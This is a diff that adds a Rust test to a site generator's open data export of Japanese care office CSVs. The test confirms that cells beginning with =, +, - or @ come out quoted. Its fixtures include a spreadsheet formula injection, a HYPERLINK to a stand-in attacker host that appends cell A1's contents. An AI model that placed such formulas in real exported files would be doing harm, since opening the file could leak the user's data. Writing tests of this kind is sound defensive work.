@@ -175,3 +175,51 @@ fn a_build_killed_at_any_moment_leaves_a_whole_output() {
         .collect();
     assert!(names.is_empty(), "{names:?}");
 }
+
+#[test]
+fn open_data_cells_that_start_like_a_formula_are_quoted() {
+    let site = TestSite::minimal();
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    site.write(
+        "site.toml",
+        &crate::harness::SITE_TOML.replace("name = \"北部\"", "name = \"-北部\""),
+    );
+    site.write(
+        "data/municipalities.csv",
+        &crate::harness::MUNICIPALITIES.replace("442011,大分市", "442011,+大分市"),
+    );
+    site.write(
+        "data/offices.csv",
+        &crate::harness::OFFICES.replace(
+            "さくら居宅介護支援事業所",
+            &format!("\"{}\"", evil.replace('"', "\"\"")),
+        ),
+    );
+    site.write(
+        "data/adoption/2025-11-30.csv",
+        &crate::harness::SNAPSHOT.replace("みらいケアノート", "@SUM(A1)"),
+    );
+    site.build_ok();
+    let adopted = site.output("data/adopted-offices.csv");
+    assert!(
+        adopted.contains("4470100001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",442011,居宅介護支援;介護予防支援,true,'@SUM(A1)\n"),
+        "{adopted}"
+    );
+    assert!(
+        site.output("data/groups.csv")
+            .contains("\n'-北部,2025-11-30,3,2,66.7,")
+    );
+    assert!(
+        site.output("data/municipalities.csv")
+            .contains("\n442011,'+大分市,2025-11-30,2,1,50.0,")
+    );
+    assert!(
+        site.output("data/trend.csv")
+            .contains(",442011,'+大分市,2,1,50.0\n")
+    );
+    // Numbers stay numbers, and JSON keeps every value as it is.
+    let json: serde_json::Value =
+        serde_json::from_str(&site.output("data/municipalities.json")).unwrap();
+    assert_eq!(json[1]["name"], "+大分市");
+    assert_eq!(json[1]["rate"], 50.0);
+}
